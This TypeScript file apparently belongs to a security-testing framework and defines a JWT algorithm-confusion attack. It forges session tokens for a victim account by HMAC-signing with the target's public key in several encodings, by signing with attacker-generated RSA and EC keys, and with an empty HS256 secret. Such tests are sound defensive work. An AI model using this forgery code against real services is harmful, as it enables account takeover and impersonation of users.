import { createPublicKey, generateKeyPairSync, type JsonWebKey, sign } from 'node:crypto'
import { defineAttack } from '../../src/contract/attack.ts'
import { type ForgedJwts, type Forgery, type Holder, judgeForgedJwts, observeForgedJwts } from '../kit/forged-jwt.ts'
import { encodeJson, joinJwt, payloadFor } from '../kit/jwt.ts'
import { type HmacAlgorithm, isHmac, signedWithSecret } from '../kit/sign.ts'

const HMAC: readonly HmacAlgorithm[] = ['HS256', 'HS384', 'HS512']

export default defineAttack<ForgedJwts>({
  meta: {
    id: 'ft-jwt-alg-confusion',
    family: 'forged-token',
    title: 'Session JWT signed with the public key as a secret',
    about:
      "Signs a rewritten session token by HMAC with the target's public key, in each form it is published or kept, and by an own key under another algorithm. Success means that the token says how it is to be checked, and that anybody is anybody.",
    severity: 'critical',
    cwe: [347, 757],
    asvs: ['9.1.2'],
    api2023: ['API2'],
    has: 'the public keys, which are public; an own session token; the victim is named by account id, which is no secret',
    needs: ['oneTap', 'me'],
    notices: ['jwt-signature=alg-confusion'],
    // Where tokens are signed with a key pair, an own key of the same kind is enough.
    mayNotice: ['jwt-signature=unverified'],
  },

  async observe(lab) {
    const keys = await lab.publicKeys()
    return observeForgedJwts(lab, (own, victim) => [...byPublicKeys(own, victim, keys), ...byOwnKey(own, victim)])
  },

  judge: observation => judgeForgedJwts(observation, 'Session tokens signed by another algorithm than their own'),
})

/** A public key is a secret like any other to HMAC; which bytes of it were handed over is for the attacker to guess. */
function byPublicKeys(own: Holder, victim: Holder, keys: readonly Readonly<Record<string, unknown>>[]): Forgery[] {
  const payload = payloadFor(own.jwt, own.account, victim.jwt, victim.account)
  return keys.flatMap((key, nth) =>
    writings(key).flatMap(([form, secret]) =>
      HMAC.map(alg => ({
        name: `${alg}, key ${nth + 1} as ${form}`,
        credential: signedWithSecret(own.jwt, {}, payload, secret, alg),
      })),
    ),
  )
}

function writings(key: Readonly<Record<string, unknown>>): [string, string | Buffer][] {
  try {
    const publicKey = createPublicKey({ key: key as JsonWebKey, format: 'jwk' })
    const spki = publicKey.export({ type: 'spki', format: 'pem' }).toString()
    const written: [string, string | Buffer][] = [
      ['PEM', spki],
      ['PEM without its last line end', spki.trimEnd()],
      ['DER', publicKey.export({ type: 'spki', format: 'der' })],
      ['JWK text', JSON.stringify(key)],
    ]
    if (publicKey.asymmetricKeyType !== 'rsa') return written
    return [...written, ['PKCS #1 PEM', publicKey.export({ type: 'pkcs1', format: 'pem' }).toString()]]
  } catch (error) {
    // A set may hold keys of kinds that this platform does not know.
    if (error instanceof Error) return []
    throw error
  }
}

/** For targets that sign with a secret: the same confusion the other way round, and between kinds of keys. */
function byOwnKey(own: Holder, victim: Holder): Forgery[] {
  const payload = encodeJson(payloadFor(own.jwt, own.account, victim.jwt, victim.account))
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey
  const signed = (alg: string, signature: (text: Buffer) => Buffer): Forgery => {
    const head = encodeJson({ ...own.jwt.headerJson, alg })
    const text = `${head}.${payload}`
    return {
      name: `${alg} by a key of the attacker`,
      credential: joinJwt(own.jwt, head, payload, signature(Buffer.from(text)).toString('base64url')),
    }
  }
  const forgeries = [
    signed('RS256', text => sign('sha256', text, rsa)),
    signed('ES256', text => sign('sha256', text, { key: ec, dsaEncoding: 'ieee-p1363' })),
  ]
  if (isHmac(own.jwt.headerJson.alg)) return forgeries
  const plain = payloadFor(own.jwt, own.account, victim.jwt, victim.account)
  return [...forgeries, { name: 'HS256 with an empty secret', credential: signedWithSecret(own.jwt, {}, plain, '') }]
}
